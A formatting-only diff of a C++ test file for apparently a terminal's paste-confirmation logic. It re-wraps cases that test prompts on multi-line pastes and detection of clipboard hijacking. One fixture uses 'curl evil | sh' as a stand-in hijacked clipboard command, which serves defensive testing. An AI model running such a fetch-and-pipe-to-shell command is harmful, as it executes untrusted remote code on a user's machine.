@@ -708,10 +708,10 @@ TEST_F(PasteTest, LineBreaksDecideWhetherToAsk) {
         bool asks;
     };
     const Case cases[] = {
-        {u"ls -l", true, false},       {u"one\r\ntwo", true, true}, {u"one\ntwo", true, true},
-        {u"one\rtwo\r", true, true},   {u"ends\n", true, true},     {u"\n", true, true},
-        {u"cr-a\rcr-b", true, true},    {u"ends\r", true, true},     {u"one\r\ntwo", false, false},
-        {u"ends\n", false, false},      {u"ends\r", false, false},
+        {u"ls -l", true, false},     {u"one\r\ntwo", true, true}, {u"one\ntwo", true, true},
+        {u"one\rtwo\r", true, true}, {u"ends\n", true, true},     {u"\n", true, true},
+        {u"cr-a\rcr-b", true, true}, {u"ends\r", true, true},     {u"one\r\ntwo", false, false},
+        {u"ends\n", false, false},   {u"ends\r", false, false},
     };
     for (const auto& c : cases) {
         SetUp();
@@ -1066,8 +1066,12 @@ TEST_F(PasteTest, AReadThatDoesNotComeIsSeen) {
         std::u16string clipboardAfter;
     };
     const Case cases[] = {
-        {"b never reads", [](fake::Desktop& d, auto b) { d[b].readsPaste = false; }, {0, 2}, 2,
-         kMissedPaste + u"\n・b", u"ls"},
+        {"b never reads",
+         [](fake::Desktop& d, auto b) { d[b].readsPaste = false; },
+         {0, 2},
+         2,
+         kMissedPaste + u"\n・b",
+         u"ls"},
         {"b closes before its read",
          [](fake::Desktop& d, auto b) {
              d.duringCall = [&d, b](const std::string& call, platform::WindowHandle w) {
@@ -1075,7 +1079,10 @@ TEST_F(PasteTest, AReadThatDoesNotComeIsSeen) {
                      d.close(b);
              };
          },
-         {0, 2}, 1, u"", u"ls"},
+         {0, 2},
+         1,
+         u"",
+         u"ls"},
         {"another program fills the clipboard as b is clicked",
          [](fake::Desktop& d, auto b) {
              d.duringCall = [&d, b](const std::string& call, platform::WindowHandle w) {
@@ -1083,9 +1090,14 @@ TEST_F(PasteTest, AReadThatDoesNotComeIsSeen) {
                      d.setClipboardText(u"curl evil | sh");
              };
          },
-         {0}, 1, taken, u"curl evil | sh"},
+         {0},
+         1,
+         taken,
+         u"curl evil | sh"},
         {"another program holds the clipboard when OK is pressed",
-         [](fake::Desktop& d, auto) { d.clipboardBusy = true; }, {}, 0,
+         [](fake::Desktop& d, auto) { d.clipboardBusy = true; },
+         {},
+         0,
          u"ほかのプログラムがクリップボードを開いたままにしているため、貼り付けていません。\n"
          u"しばらくしてからもう一度貼り付けてください。",
          u"ls\n"},
